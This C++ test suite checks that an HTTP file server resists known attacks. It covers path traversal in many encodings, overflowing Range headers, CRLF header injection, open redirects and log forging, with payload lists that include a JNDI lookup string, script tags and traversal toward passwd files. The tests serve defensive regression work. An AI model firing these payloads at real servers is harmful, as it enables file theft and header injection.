// Attacks on what becomes of a sound request: paths that leave the root, ranges
// and times that overflow, and text of a stranger on its way into an answer's
// head or into the log.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <time.h>

#include <cstdint>
#include <limits>
#include <string>
#include <vector>

#include "absl/strings/escaping.h"
#include "absl/strings/match.h"
#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "tests/support/client.h"
#include "tests/support/server.h"

namespace h1_test {
namespace {

using absl::StrCat;
using std::string;

constexpr char kSecret[] = "a secret outside of the root";

class AttackFiles : public testing::Test {
 protected:
  static void SetUpTestSuite() {
    tree_ = new TempDir;
    for (const char* name : {"secret", "etc/passwd", "root/.hidden",
                             "root/.git/config", "root/folder/.hidden"}) {
      tree_->Write(name, kSecret);
    }
    tree_->Write("root/a.txt", Numbers(1000));
    tree_->Write("root/large", Numbers(1 << 20));
    tree_->Write("root/folder/index.html", "<p>the index");
    server_ = new Server({"--root", tree_->File("root")});
  }
  static void TearDownTestSuite() {
    delete server_;
    server_ = nullptr;
    delete tree_;
    tree_ = nullptr;
  }

  static Response Get(absl::string_view path, absl::string_view fields = "") {
    return server_->Connect().Get(path, fields);
  }

  static TempDir* tree_;
  static Server* server_;
};
TempDir* AttackFiles::tree_ = nullptr;
Server* AttackFiles::server_ = nullptr;

// CVE-2021-41773, CVE-2021-42013, CVE-2018-19052, CVE-2000-0884,
// CVE-2001-0333, CVE-2007-0450: every way to write "up", with every way to
// write the separator, from every place, to several depths.
TEST_F(AttackFiles, NoSpellingOfUpLeavesTheRoot) {
  const char* const kUps[] = {"..",           "%2e%2e",     ".%2e",
                              "%2E.",         "%252e%252e", "%%32%65%%32%65",
                              "..%00",        "..;",        "....",
                              "%c0%ae%c0%ae", "..%c0%af",   ".%2e%20",
                              "..%0d",        "..%09",      "%u002e%u002e"};
  const char* const kSeparators[] = {"/",     "%2f",    "%5c", "\\", "//",
                                     "%252f", "%c0%af", "/./", "/;/"};
  const char* const kStarts[] = {
      "/static/",       "/static", "/static/folder/",
      "/static/a.txt/", "/",       "http://a/static/"};
  Client client = server_->Connect();
  for (const string start : kStarts) {
    for (const string up : kUps) {
      for (const string separator : kSeparators) {
        string path = start;
        for (int depth = 1; depth <= 4; depth++) {
          path += up + separator;
          for (const char* file : {"secret", "etc/passwd", ".hidden"}) {
            if (!client.Connected() || client.Readable(Milliseconds(0))) {
              client = server_->Connect();
            }
            const Response r = client.Get(path + file);
            EXPECT_TRUE(r.status >= 400 && r.status < 500) << path << r;
            EXPECT_FALSE(absl::StrContains(r.body, kSecret)) << path << file;
            if (r.Closes()) client.Close();
          }
        }
      }
    }
  }
}

// CVE-2011-3192: ranges without number cost no more than the file.
TEST_F(AttackFiles, ManyRangesCostNoMoreThanTheFile) {
  const string whole = Numbers(1 << 20);
  for (const char* range : {"0-", "0-1", "-1", "5-6", "0-1048575"}) {
    string list = "Range: bytes=0-";
    for (int i = 0; i < 1300; i++) absl::StrAppend(&list, ",", range);
    const Response r = Get("/static/large", list + "\r\n");
    EXPECT_EQ(r.status, 200) << range;
    EXPECT_TRUE(r.body == whole) << r.body.size();
  }
  // As many as are served, overlapping in every way: no byte twice.
  string list = "Range: bytes=0-1048575";
  for (int i = 1; i < 16; i++) absl::StrAppend(&list, ",", i, "-");
  const Response r = Get("/static/large", list + "\r\n");
  EXPECT_EQ(r.status, 206);
  EXPECT_LE(r.body.size(), whole.size() + 4096);
}

// The bytes that a Content-Range of a single range names, or all of them.
string Named(const Response& r, const string& whole) {
  const string value = r.Field("Content-Range");
  if (r.status != 206) return whole;
  uint64_t from = 0, to = 0;
  const std::vector<string> parts =
      absl::StrSplit(value, absl::ByAnyChar(" -/"));
  EXPECT_EQ(parts.size(), 4u) << value;
  if (parts.size() != 4 || !absl::SimpleAtoi(parts[1], &from) ||
      !absl::SimpleAtoi(parts[2], &to) || from > to || to >= whole.size()) {
    return "not a range of the file: " + value;
  }
  return whole.substr(from, to - from + 1);
}

// CVE-2017-7529: numbers whose sums and differences overflow.
TEST_F(AttackFiles, RangesThatOverflowNameOnlyBytesOfTheFile) {
  const string whole = Numbers(1000);
  const char* const kNumbers[] = {"0",
                                  "1",
                                  "999",
                                  "1000",
                                  "2147483647",
                                  "2147483648",
                                  "4294967295",
                                  "4294967296",
                                  "4294967297",
                                  "9223372036854774808",
                                  "9223372036854775807",
                                  "9223372036854775808",
                                  "18446744073709550616",
                                  "18446744073709551615",
                                  "18446744073709551616",
                                  "18446744073709552615",
                                  "99999999999999999999999999"};
  std::vector<string> ranges;
  for (const string from : kNumbers) {
    ranges.push_back("-" + from);
    ranges.push_back(from + "-");
    ranges.push_back(StrCat("-", from, ",-", from));
    for (const string to : kNumbers) {
      ranges.push_back(StrCat(from, "-", to));
      ranges.push_back(StrCat("-", from, ",-", to));
    }
  }
  Client client = server_->Connect();
  for (const string& range : ranges) {
    const Response r =
        client.Get("/static/a.txt", StrCat("Range: bytes=", range, "\r\n"));
    SCOPED_TRACE(range);
    ASSERT_TRUE(r.status == 200 || r.status == 206 || r.status == 416) << r;
    ASSERT_FALSE(r.Closes()) << r;
    if (r.status == 416) {
      EXPECT_EQ(r.Field("Content-Range"), "bytes */1000");
    } else if (absl::StartsWith(r.Field("Content-Type"), "multipart/")) {
      EXPECT_LE(r.body.size(), 2 * (whole.size() + 300));
    } else {
      EXPECT_EQ(r.body, Named(r, whole));
    }
  }
}

// CVE-2020-25691: times of files that no calendar has.
TEST_F(AttackFiles, ExtremeTimesAreServedWithoutLie) {
  constexpr int64_t kMost = std::numeric_limits<int64_t>::max();
  for (int64_t when :
       {-kMost - 1, -kMost, -(int64_t{1} << 55), int64_t{-62167219201},
        int64_t{-62135596801}, int64_t{-2147483649}, int64_t{-1}, int64_t{0},
        int64_t{2147483648}, int64_t{4294967296}, int64_t{253402300799},
        int64_t{253402300800}, int64_t{67767976233532799},
        int64_t{67768036191676800}, int64_t{1} << 55, kMost}) {
    SCOPED_TRACE(when);
    const string name = StrCat("time", when);
    tree_->Write("root/" + name, "x");
    const timespec times[2] = {{when, 0}, {when, 0}};
    // A file system that does not know such a time keeps its nearest one.
    (void)utimensat(AT_FDCWD, tree_->File("root/" + name).c_str(), times, 0);
    const Response r = Get("/static/" + name);
    EXPECT_EQ(r.status, 200) << r;
    EXPECT_EQ(r.body, "x");
    const string modified = r.Field("Last-Modified");
    if (modified.empty()) continue;
    tm date = {}, now = {};
    ASSERT_NE(strptime(modified.c_str(), "%a, %d %b %Y %H:%M:%S GMT", &date),
              nullptr)
        << modified;
    ASSERT_NE(
        strptime(r.Field("Date").c_str(), "%a, %d %b %Y %H:%M:%S GMT", &now),
        nullptr);
    EXPECT_LE(timegm(&date), timegm(&now)) << "never later than Date";
  }
}

// The same from the other side: dates of a client that no calendar has.
TEST_F(AttackFiles, ExtremeDatesOfClientsAreHarmless) {
  const char* const kDates[] = {"Fri, 31 Dec 9999 23:59:59 GMT",
                                "Sat, 01 Jan 0000 00:00:00 GMT",
                                "Mon, 01 Jan 0001 00:00:00 GMT",
                                "Thu, 01 Jan 1970 00:00:00 GMT",
                                "Wed, 31 Dec 1969 23:59:59 GMT",
                                "Sun, 30 Feb 2020 00:00:00 GMT",
                                "Sat, 31 Dec 2016 23:59:60 GMT",
                                "Sun, 99 Jan 2020 99:99:99 GMT",
                                "Friday, 31-Dec-99 23:59:59 GMT",
                                "Fri Dec 31 23:59:59 9999",
                                "Fri, 31 Dec 99999 23:59:59 GMT",
                                "Fri, -1 Dec 2020 23:59:59 GMT",
                                "9223372036854775808",
                                ""};
  for (const char* field :
       {"If-Modified-Since", "If-Unmodified-Since", "If-Range"}) {
    for (const char* date : kDates) {
      const Response r =
          Get("/static/a.txt",
              StrCat(field, ": ", date, "\r\nRange: bytes=0-0\r\n"));
      EXPECT_TRUE(r.status == 200 || r.status == 206 || r.status == 304 ||
                  r.status == 412)
          << field << ": " << date << r;
      EXPECT_FALSE(r.Closes());
    }
  }
}

// CVE-2016-1133: a redirect holds what the client sent, and nothing of it
// becomes a line of its own or another host.
TEST_F(AttackFiles, NoRedirectIsSplitOrLeavesTheHost) {
  const struct {
    const char* target;
    const char* location;  // nullptr: there is none
  } kRows[] = {{"/static/folder", "folder/"},
               {"/static/folder?a=b", "folder/?a=b"},
               {"/static/folder?%0d%0aSet-Cookie:%20a=b",
                "folder/?%0d%0aSet-Cookie:%20a=b"},
               {"/static/folder?http://evil/", "folder/?http://evil/"},
               {"/static/%66older", "%66older/"},
               {"/static/./folder", "folder/"},
               {"/x/../static/folder", "folder/"},
               {"http://evil/static/folder", "folder/"},
               {"/static/folder%0d%0aSet-Cookie:%20a=b", nullptr},
               {"/static/folder%0aX:y", nullptr},
               {"//evil/..%2fstatic/folder", nullptr},
               {"//static/folder", nullptr},
               {"/static//folder", nullptr},
               {"/static/folder\\", nullptr},
               {"/static/folder%5c", nullptr}};
  for (const auto& row : kRows) {
    SCOPED_TRACE(row.target);
    Client client = server_->Connect();
    ASSERT_TRUE(client.Send(
        StrCat("GET ", row.target, " HTTP/1.1\r\nHost: evil\r\n\r\n")));
    const Response r = client.Read();
    EXPECT_EQ(r.status == 301, row.location != nullptr) << r;
    EXPECT_EQ(r.Field("Location"), row.location != nullptr ? row.location : "");
    EXPECT_FALSE(r.Has("Set-Cookie")) << r;
    EXPECT_FALSE(r.Has("X")) << r;
  }
}

// Folders whose names would split or turn a redirect, were they not encoded.
TEST_F(AttackFiles, NamesOfFoldersAreEncodedInRedirects) {
  const struct {
    const char* name;
    const char* encoded;
  } kRows[] = {{"a b", "a%20b"},
               {"\"quoted\"", "%22quoted%22"},
               {"<script>", "%3Cscript%3E"},
               {"50%", "50%25"},
               {"a?b", "a%3Fb"},
               {"a#b", "a%23b"},
               {"caf\xC3\xA9", "caf%C3%A9"},
               {"esc\x1b[2J", "esc%1B[2J"}};
  for (const auto& row : kRows) {
    SCOPED_TRACE(row.encoded);
    tree_->MakeDir(StrCat("root/", row.name));
    string escaped;
    for (const char c : string(row.name)) {
      const auto byte = static_cast<unsigned>(static_cast<uint8_t>(c));
      absl::StrAppend(&escaped, "%", absl::Hex(byte, absl::kZeroPad2));
    }
    const Response r = Get("/static/" + escaped);
    EXPECT_EQ(r.status, 301) << r;
    const string location = r.Field("Location");
    for (const char c : location) {
      EXPECT_TRUE(c > 0x20 && c < 0x7f && !absl::StrContains("\"<>\\^`{|}", c))
          << location;
    }
    // What the browser makes of it leads to the folder.
    const string target = "/static/" + location;
    EXPECT_EQ(Get(target).status, 404) << "no index, " << location;
    EXPECT_EQ(Get(target.substr(0, target.size() - 1)).status, 301);
  }
}

// CVE-2020-5247: the one field that an answer takes from its
// request is a media type or nothing of it.
TEST_F(AttackFiles, NoMediaTypeOfAClientSplitsItsEcho) {
  const size_t fields =
      server_->Connect().Exchange("POST", "/submit", "", "x").fields.size();
  for (const string type :
       {"text/html, text/plain", "text/html;", "text/html; a", "text", "/",
        "text/", "a/b/c", "text/html; a=\"b", "\xC4\x8D/x", "a/\xC4\x8A",
        "text/html Set-Cookie: a", "text\\html", "*"}) {
    Client client = server_->Connect();
    const Response r = client.Exchange(
        "POST", "/submit", StrCat("Content-Type: ", type, "\r\n"), "<script>");
    EXPECT_EQ(r.status, 200) << r;
    EXPECT_EQ(r.Field("X-Content-Type-Options"), "nosniff") << r;
    EXPECT_EQ(r.Count("Content-Type"), 1u) << r;
    EXPECT_EQ(r.fields.size(), fields) << type << r;
  }
}

// Every byte a client may send, in each place that is logged.
std::vector<string> HostileRequests() {
  std::vector<string> all;
  for (int value = 0; value < 256; value++) {
    const string byte(1, static_cast<char>(value));
    all.push_back(GetBytes("/" + byte));
    all.push_back("G" + byte + "T / HTTP/1.1\r\nHost: a\r\n\r\n");
    all.push_back(GetBytes(
        "/", StrCat("User-Agent: a", byte, "b\r\nReferer: a", byte, "b\r\n")));
  }
  for (const string text :
       {"\" 200 5 \"-\" \"-", "\"},{\"status\":200,\"path\":\"/x",
        "\\\" \\\\\" \\u000a", "${jndi:ldap://evil/a}", "%0a127.0.0.1 - - [",
        "<script>alert(1)</script>"}) {
    all.push_back(GetBytes(
        "/", StrCat("User-Agent: ", text, "\r\nReferer: ", text, "\r\n")));
    all.push_back(GetBytes(StrCat("/?", text)));
  }
  return all;
}

std::vector<string> LogOf(const string& format) {
  TempDir dir;
  const std::vector<string> requests = HostileRequests();
  {
    Server server({"--access-log", dir.File("log"), "--log-format", format});
    for (const string& request : requests) {
      Client client = server.Connect();
      client.Send(request);
      client.HalfClose();
      client.ReadToEnd();
    }
  }
  std::vector<string> lines =
      absl::StrSplit(ReadFileText(dir.File("log")), '\n');
  lines.pop_back();  // after the last line end
  return lines;
}

void ExpectPrintable(const string& line) {
  for (const char c : line) {
    ASSERT_TRUE(c >= 0x20 && c < 0x7f) << absl::CHexEscape(line);
  }
}

// CVE-2009-4487, CVE-2003-0020: no line is forged, no terminal is driven.
TEST(AttackLog, EveryByteIsHarmlessInJson) {
  const std::vector<string> lines = LogOf("json");
  // A CR and a space make some requests into none; every other is one line.
  EXPECT_GE(lines.size(), HostileRequests().size() - 4);
  EXPECT_LE(lines.size(), HostileRequests().size());
  const size_t members = ParseJson(lines[0]).members.size();
  for (const string& text : lines) {
    ExpectPrintable(text);
    const Json line = ParseJson(text);
    ASSERT_EQ(line.kind, Json::kObject) << text;
    EXPECT_EQ(line.members.size(), members) << text;
    EXPECT_EQ(line["client"].text, "127.0.0.1") << text;
  }
}

// CVE-2009-4487, CVE-2003-0020: nor does a quote end where it should not.
TEST(AttackLog, EveryByteIsHarmlessInCombined) {
  const std::vector<string> lines = LogOf("combined");
  EXPECT_GE(lines.size(), HostileRequests().size() - 4);
  EXPECT_LE(lines.size(), HostileRequests().size());
  for (const string& line : lines) {
    ExpectPrintable(line);
    EXPECT_TRUE(absl::StartsWith(line, "127.0.0.1 - - [")) << line;
    size_t quotes = 0;
    for (size_t i = 0; i < line.size(); i++) {
      if (line[i] == '\\') {
        i++;
      } else if (line[i] == '"') {
        quotes++;
      }
    }
    EXPECT_EQ(quotes, 6u) << line;
  }
}

}  // namespace
}  // namespace h1_test
